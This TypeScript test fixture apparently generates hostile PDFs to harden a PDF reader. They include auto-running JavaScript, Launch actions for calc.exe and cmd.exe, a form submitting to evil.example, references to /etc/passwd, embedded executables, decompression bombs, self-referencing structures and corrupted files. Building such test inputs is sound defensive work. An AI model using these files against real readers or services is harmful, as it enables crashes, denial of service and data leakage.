import { deflateSync } from 'node:zlib'
import { logoPdf, packedPdf, pdfOf, streamOf } from './pdf.fixture.ts'

export interface HostilePdf {
  readonly name: string
  readonly bytes: Uint8Array
}

type Made = readonly [name: string, bytes: Uint8Array]

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => make(at)).join('')

/** The same numbers in every run. */
function chance(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}

const flate = (content: string | Uint8Array, dict = '') =>
  streamOf(
    deflateSync(typeof content === 'string' ? Buffer.from(content, 'latin1') : content, { level: 9 }),
    `/Filter/FlateDecode${dict}`,
  )

// Scripts, programs, forms, other files

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const actions: readonly [string, string][] = [
  ['JavaScript', SCRIPT],
  ['a program', '<</S/Launch/F(calc.exe)>>'],
  ['a program of Windows', '<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>'],
  ['a form that sends itself', '<</S/SubmitForm/F(https://evil.example/)>>'],
  ['a form that fetches data', '<</S/ImportData/F(/etc/passwd)>>'],
  ['a film', '<</S/Rendition/OP 0>>'],
  ['a file within', '<</S/GoToE/T<</R/C/N(a.pdf)>>>>'],
  ['a rich medium', '<</S/RichMediaExecute/CMD<</C(run)>>>>'],
]
const places: readonly [string, (action: string) => Uint8Array][] = [
  ['as the file opens', (action) => pdfOf({ catalog: `/OpenAction ${action}` })],
  ['as the page opens', (action) => pdfOf({ page: `/AA<</O ${action}>>` })],
  ['as the file closes', (action) => pdfOf({ catalog: `/AA<</WC ${action}>>` })],
  ['behind a link', (action) => pdfOf({ page: `/Annots[<</Subtype/Link/Rect[0 0 200 100]/A ${action}>>]` })],
  ['by name', (action) => pdfOf({ catalog: '/Names<</JavaScript<</Names[(a) 5 0 R]>>>>', objects: [action] })],
  [
    'after another',
    (action) => pdfOf({ catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>', objects: [action] }),
  ],
  ['packed with other objects', (action) => packedPdf('/OpenAction 6 0 R', action)],
]
const active: Made[] = places.flatMap(([where, make]) =>
  actions.map(([what, action]): Made => [`${what}, ${where}`, make(action)]),
)

const carried: Made[] = [
  [
    'a file attached',
    pdfOf({
      catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
      objects: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', streamOf('MZ', '/Type/EmbeddedFile')],
    }),
  ],
  [
    'a file attached to the page',
    pdfOf({
      page: '/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<</F 5 0 R>>>>>>]',
      objects: [streamOf('MZ')],
    }),
  ],
  ['XFA', pdfOf({ catalog: '/AcroForm<</XFA 5 0 R/Fields[]>>', objects: [streamOf('<xdp:xdp/>')] })],
  [
    'fields with scripts',
    pdfOf({ catalog: '/AcroForm<</Fields[5 0 R]>>', objects: [`<</FT/Tx/T(a)/AA<</K ${SCRIPT}>>>>`] }),
  ],
  [
    'a picture elsewhere',
    pdfOf({
      page: '/Resources<</XObject<</I 5 0 R>>>>',
      content: '/I Do',
      objects: [
        streamOf(
          '',
          '/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/F(https://evil.example/x.png)',
        ),
      ],
    }),
  ],
  ['content of a file here', pdfOf({ page: '/Contents 5 0 R', objects: [streamOf('', '/F(/etc/passwd)')] })],
  [
    'a page of another file',
    pdfOf({
      page: '/Resources<</XObject<</I 5 0 R>>>>',
      content: '/I Do',
      objects: [streamOf('', '/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>')],
    }),
  ],
]

const lockedWith = (dict: string) => pdfOf({ trailer: `/Encrypt<<${dict}>>/ID[(a)(a)]` })
const locked: Made[] = [1, 2, 4, 5].map((version) => [
  `locked, version ${version}`,
  lockedWith(
    `/Filter/Standard/V ${version}/R ${version + 1}/Length 128/O(${'o'.repeat(32)})/U(${'u'.repeat(32)})/P -4`,
  ),
])
locked.push(['locked by something unknown', lockedWith('/Filter/Evil/V 9')])

// Bombs

const XOBJECT = '/Resources<</XObject<</X 5 0 R>>>>'
const image = (width: number, height: number, more = '/BitsPerComponent 8/ColorSpace/DeviceRGB') =>
  `/Subtype/Image/Width ${width}/Height ${height}${more}`
const nestedFlate = (depth: number, size: number) => {
  let bytes: Uint8Array = Buffer.alloc(size, 32)
  for (let level = 0; level < depth; level++) bytes = deflateSync(bytes, { level: 9 })
  return streamOf(bytes, `/Filter[${times(depth, () => '/FlateDecode')}]`)
}
/** Each form draws ten of the next. */
const laughingForms = (depth: number) =>
  pdfOf({
    page: XOBJECT,
    content: '/X Do',
    objects: Array.from({ length: depth }, (_, level) =>
      streamOf(
        times(10, () => '/X Do '),
        `/Subtype/Form/BBox[0 0 200 100]/Resources<</XObject<</X ${Math.min(level + 6, depth + 4)} 0 R>>>>`,
      ),
    ),
  })
const laughingPatterns = (depth: number) =>
  pdfOf({
    page: '/Resources<</Pattern<</P 5 0 R>>>>',
    content: '/Pattern cs /P scn 0 0 200 100 re f',
    objects: Array.from({ length: depth }, (_, level) =>
      streamOf(
        times(10, () => '/Pattern cs /P scn 0 0 9 9 re f '),
        `/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P ${Math.min(level + 6, depth + 4)} 0 R>>>>`,
      ),
    ),
  })
const smallPattern = (step: number) =>
  pdfOf({
    page: '/Resources<</Pattern<</P 5 0 R>>>>',
    content: '/Pattern cs /P scn 0 0 200 100 re f',
    objects: [
      streamOf(
        '0 0 1 1 re f',
        `/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep ${step}/YStep ${step}/Resources<<>>`,
      ),
    ],
  })
const nestedGroups = (depth: number) =>
  pdfOf({
    page: '/Resources<</XObject<</X 5 0 R>>/ExtGState<</G<</ca .5/BM/Multiply>>>>>>',
    content: '/G gs /X Do',
    objects: Array.from({ length: depth }, (_, level) =>
      streamOf(
        level + 1 < depth ? '/G gs /X Do' : '0 0 99 99 re f',
        `/Subtype/Form/BBox[0 0 200 100]/Group<</S/Transparency>>/Resources<</ExtGState<</G<</ca .9/BM/Multiply>>>>/XObject<</X ${level + 6} 0 R>>>>`,
      ),
    ),
  })

const bombs: Made[] = [
  ...[1, 2, 3, 4, 9].map(
    (depth): Made => [
      `content of 300 MB of blanks, packed ${depth} times`,
      pdfOf({ page: '/Contents 5 0 R', objects: [nestedFlate(depth, 300_000_000)] }),
    ],
  ),
  ['60 filters on each other', pdfOf({ page: '/Contents 5 0 R', objects: [nestedFlate(60, 1000)] })],
  [
    'a picture of 300 MB in 300 kB',
    pdfOf({
      page: XOBJECT,
      content: '200 0 0 100 0 0 cm /X Do',
      objects: [flate(Buffer.alloc(300_000_000), image(10_000, 10_000))],
    }),
  ],
  ...[20_000, 65_000, 2_000_000_000].map(
    (side): Made => [
      `a picture of ${side} × ${side}`,
      pdfOf({ page: XOBJECT, content: '200 0 0 100 0 0 cm /X Do', objects: [streamOf('0', image(side, side))] }),
    ],
  ),
  [
    'a picture of one bit and 39 million',
    pdfOf({
      page: XOBJECT,
      content: '200 0 0 100 0 0 cm /X Do',
      objects: [flate(Buffer.alloc(5_000_000), image(6_200, 6_200, '/BitsPerComponent 1/ColorSpace/DeviceGray'))],
    }),
  ],
  [
    'a picture drawn 100,000 times',
    pdfOf({
      page: XOBJECT,
      content: times(100_000, () => '/X Do '),
      objects: [flate(Buffer.alloc(3_000_000), image(1_000, 1_000))],
    }),
  ],
  [
    'a mask of itself',
    pdfOf({ page: XOBJECT, content: '/X Do', objects: [streamOf('0', `${image(9, 9)}/SMask 5 0 R`)] }),
  ],
  [
    'a JPEG that is none',
    pdfOf({ page: XOBJECT, content: '/X Do', objects: [streamOf('\xff\xd8\xff', `${image(9, 9)}/Filter/DCTDecode`)] }),
  ],
  [
    'a JPEG 2000 that is none',
    pdfOf({
      page: XOBJECT,
      content: '/X Do',
      objects: [streamOf('\0\0\0\x0cjP  ', `${image(9, 9)}/Filter/JPXDecode`)],
    }),
  ],
  [
    'a JBIG2 that is none',
    pdfOf({
      page: XOBJECT,
      content: '/X Do',
      objects: [streamOf('\x97JB2', `${image(9, 9, '/BitsPerComponent 1/ColorSpace/DeviceGray')}/Filter/JBIG2Decode`)],
    }),
  ],
  ['forms, 8 deep', laughingForms(8)],
  ['forms, 30 deep', laughingForms(30)],
  ['patterns, 4 deep', laughingPatterns(4)],
  ['patterns, 12 deep', laughingPatterns(12)],
  [
    'a form of itself',
    pdfOf({
      page: XOBJECT,
      content: '/X Do',
      objects: [streamOf('/X Do 0 0 9 9 re f', '/Subtype/Form/BBox[0 0 200 100]/Resources<</XObject<</X 5 0 R>>>>')],
    }),
  ],
  ...[0, 1e-9, 0.001, 0.05, -1].map((step): Made => [`a pattern each ${step} points`, smallPattern(step)]),
  ['groups, 60 deep', nestedGroups(60)],
  ['groups, 400 deep', nestedGroups(400)],
  [
    '500,000 rectangles',
    pdfOf({ page: '/Contents 5 0 R', objects: [flate(times(500_000, (at) => `${at % 200} 0 1 1 re f `))] }),
  ],
  [
    'a million curves as one path',
    pdfOf({
      page: '/Contents 5 0 R',
      objects: [flate(`0 0 m ${times(1_000_000, (at) => `${at % 200} 9 99 ${at % 90} 9 9 c `)}S`)],
    }),
  ],
  ['dashes without end', pdfOf({ content: '[.0001 .0001] 0 d 50 w 0 0 m 200 100 l S' })],
  ['a line as thick as a city', pdfOf({ content: '1e9 w 0 0 m 200 100 l S' })],
  ['a million states kept', pdfOf({ page: '/Contents 5 0 R', objects: [flate(times(1_000_000, () => 'q '))] })],
  [
    'a clip in a clip, 200,000 times',
    pdfOf({
      page: '/Contents 5 0 R',
      objects: [flate(`${times(200_000, (at) => `${at % 9} 0 150 100 re W n `)}0 0 200 100 re f`)],
    }),
  ],
  ['lists in lists, 100,000 deep', pdfOf({ catalog: `/A ${'['.repeat(100_000)}${']'.repeat(100_000)}` })],
  [
    'dictionaries in dictionaries, 5,000 deep',
    pdfOf({ page: `/Resources ${'<</A '.repeat(5_000)}1${'>>'.repeat(5_000)}` }),
  ],
  ['a million numbers in a list', pdfOf({ page: `/Resources<</Properties<</A[${'1 '.repeat(1_000_000)}]>>>>` })],
  [
    '30,000 objects for a page',
    pdfOf({
      page: `/Resources<</Properties<<${times(30_000, (at) => `/A${at} ${at + 5} 0 R`)}>>>>`,
      objects: Array.from({ length: 30_000 }, () => '<</Type/OCG>>'),
    }),
  ],
  [
    'a shading that never ends',
    pdfOf({
      page: '/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Matrix[1e-7 0 0 1e-7 0 0]/Function 5 0 R>>>>>>',
      content: '/S sh',
      objects: [
        streamOf(
          `{ ${'dup mul '.repeat(4_000)} pop dup dup }`,
          '/FunctionType 4/Domain[0 1e9 0 1e9]/Range[0 1 0 1 0 1]',
        ),
      ],
    }),
  ],
  [
    'a function of itself',
    pdfOf({
      page: '/Resources<</Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 200 0]/Function 5 0 R>>>>>>',
      content: '/S sh',
      objects: ['<</FunctionType 3/Domain[0 1]/Functions[5 0 R 5 0 R]/Bounds[.5]/Encode[0 1 0 1]>>'],
    }),
  ],
  [
    'a color space of itself',
    pdfOf({
      page: '/Resources<</ColorSpace<</C 5 0 R>>>>',
      content: '/C cs 1 scn 0 0 99 99 re f',
      objects: ['[/Indexed 5 0 R 1 (ab)]'],
    }),
  ],
  [
    'packed objects that pack themselves',
    pdfOf({ page: '/Contents 6 0 R', objects: [flate('5 0 <</A 5 0 R>>', '/Type/ObjStm/N 1/First 4/Extends 5 0 R')] }),
  ],
  ['20 million packed objects', pdfOf({ objects: [flate('5 0 null', '/Type/ObjStm/N 20000000/First 4')] })],
]

// Trees of pages, boxes, wrong words

const withPages = (pages: string, objects: readonly string[] = []) =>
  pdfOf({ catalog: '/Pages 5 0 R', objects: [pages, ...objects] })
const trees: Made[] = [
  ['a tree of itself', withPages('<</Type/Pages/Kids[5 0 R]/Count 1>>')],
  [
    'two trees of each other',
    withPages('<</Type/Pages/Kids[6 0 R]/Count 1>>', ['<</Type/Pages/Kids[5 0 R]/Count 1>>']),
  ],
  ['no pages', withPages('<</Type/Pages/Kids[]/Count 0>>')],
  ['two thousand million pages that are not there', withPages('<</Type/Pages/Kids[3 0 R]/Count 2000000000>>')],
  ['fewer than no pages', withPages('<</Type/Pages/Kids[3 0 R]/Count -9>>')],
  ['one page 100,000 times', withPages(`<</Type/Pages/Kids[${'3 0 R '.repeat(100_000)}]/Count 100000>>`)],
  [
    '5,000 pages',
    withPages(`<</Type/Pages/Count 5000/Kids[${times(5_000, () => '<</Type/Page/MediaBox[0 0 9 9]>>')}]>>`),
  ],
  [
    'branches, 3,000 deep',
    withPages(
      '<</Type/Pages/Kids[6 0 R]/Count 1>>',
      Array.from({ length: 3_000 }, (_, at) => `<</Type/Pages/Kids[${at + 7} 0 R]/Count 1>>`),
    ),
  ],
  ['a page that is a number', withPages('<</Type/Pages/Kids[7]/Count 1>>')],
  ['no catalog', pdfOf({ trailer: '/Root 99 0 R' })],
]

const boxes: Made[] = [
  '0 0 1000000000 1000000000',
  '0 0 14401 100',
  '0 0 1 10000',
  '0 0 0 0',
  '9 9 9 9',
  '-99999999999999999999999999 -1 99999999999999999999999999 1',
  '0 0 .000000001 .000000001',
  '0 0',
  '(a)(b)(c)(d)',
  '5 0 R 5 0 R 5 0 R 5 0 R',
  'null null null null',
  '2147483647 2147483647 -2147483648 -2147483648',
  '0 0 99999999999999999999 9',
].map((box): Made => [`a page of ${box}`, pdfOf({ page: `/MediaBox[${box}]` })])
boxes.push(
  ...['1000000000', '-3', '0', '(a)', '.000000001'].map(
    (unit): Made => [`a unit of ${unit}`, pdfOf({ page: `/UserUnit ${unit}` })],
  ),
  ...['45', '1000000000', '(a)', '-90'].map((turn): Made => [`a turn of ${turn}`, pdfOf({ page: `/Rotate ${turn}` })]),
)

const words: Made[] = [
  ['a signature and nothing', Buffer.from('%PDF-1.7')],
  ['a signature and an end', Buffer.from('%PDF-1.7\n%%EOF')],
  ['a signature behind 900 letters', Buffer.concat([Buffer.alloc(900, 65), pdfOf()])],
  ['HTML with a PDF in it', Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfOf()])],
  ['a PDF and a program', Buffer.concat([pdfOf(), Buffer.from('MZ\x90\0')])],
  ['two PDF in one', Buffer.concat([pdfOf(), pdfOf({ catalog: `/OpenAction ${SCRIPT}` })])],
  [
    'a table that points beyond the end',
    Buffer.from(
      Buffer.from(pdfOf())
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n99999999'),
      'latin1',
    ),
  ],
  [
    'a table that points to itself',
    Buffer.from(Buffer.from(pdfOf()).toString('latin1').replace('/Root', '/Prev 0/Root'), 'latin1'),
  ],
  [
    'a length that is longer than the file',
    pdfOf({ page: '/Contents 5 0 R', objects: ['<</Length 999999999>>stream\n0 0 9 9 re f\nendstream'] }),
  ],
  [
    'a length that is its own',
    pdfOf({ page: '/Contents 5 0 R', objects: ['<</Length 5 0 R>>stream\n0 0 9 9 re f\nendstream'] }),
  ],
  [
    'a length below nothing',
    pdfOf({ page: '/Contents 5 0 R', objects: ['<</Length -1>>stream\n0 0 9 9 re f\nendstream'] }),
  ],
  ['an unknown filter', pdfOf({ page: '/Contents 5 0 R', objects: [streamOf('x', '/Filter/EvilDecode')] })],
  ['a filter that locks', pdfOf({ page: '/Contents 5 0 R', objects: [streamOf('x', '/Filter/Crypt')] })],
  [
    'names of JavaScript',
    pdfOf({
      page: '/Resources<</ExtGState<</__proto__<</ca .5>>/constructor<</ca .5>>>>>>',
      content: '/__proto__ gs 0 0 99 99 re f',
    }),
  ],
  [
    'names with zeros',
    pdfOf({ page: '/Resources<</ExtGState<</A#00#0a#28B<</ca .5>>>>>>', content: '/A#00#0a#28B gs 0 0 99 99 re f' }),
  ],
  [
    'a font that is no font',
    pdfOf({
      page: '/Resources<</Font<</F<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</FontFile2 5 0 R/FontName/A>>>>>>>>',
      content: 'BT /F 12 Tf (a) Tj ET',
      objects: [streamOf(Buffer.alloc(4_000, 7))],
    }),
  ],
  [
    'a font whose letters write themselves',
    pdfOf({
      page: '/Resources<</Font<</F 5 0 R>>>>',
      content: 'BT /F 12 Tf (a) Tj ET',
      objects: [
        '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>',
        streamOf('BT /F 12 Tf (a) Tj ET'),
      ],
    }),
  ],
  ['letters as large as a city', pdfOf({ content: 'BT /F 1e12 Tf (a) Tj ET' })],
  ['operators without operands', pdfOf({ content: times(5_000, () => 'Do gs cs scn re c Tj TJ sh BI EI ') })],
  ['an inline picture without end', pdfOf({ content: 'BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID xxxxx' })],
]

function spoilt(name: string, sound: Uint8Array, random: (below: number) => number): Made[] {
  const cut = [9, 200, Math.floor(sound.length / 2), sound.length - 40].map(
    (length): Made => [`${length} bytes of ${name}`, sound.subarray(0, length)],
  )
  const changed = [1, 3, 9, 40, 100, 400].flatMap((count) =>
    [1, 2, 3].map((time): Made => {
      const copy = Buffer.from(sound)
      for (let one = 0; one < count; one++) copy[9 + random(copy.length - 9)] = random(256)
      return [`${count} bytes changed in ${name}, ${time}`, copy]
    }),
  )
  const [a, b] = [16 + random(sound.length - 16), random(sound.length)]
  return [...cut, ...changed, [`pieces of ${name}`, Buffer.concat([sound.subarray(0, a), sound.subarray(b), sound])]]
}

/** PDFs that want to run, to reach out, to last for ever or to break their reader; the same in every run. */
export async function hostilePdfs(): Promise<readonly HostilePdf[]> {
  const random = chance(20_261_124)
  const made = [...active, ...carried, ...locked, ...bombs, ...trees, ...boxes, ...words]
  made.push(...spoilt('a logo', await logoPdf([100, 100]), random), ...spoilt('a plain page', pdfOf(), random))
  return made.map(([name, bytes]) => ({ name: `PDF: ${name}`, bytes }))
}
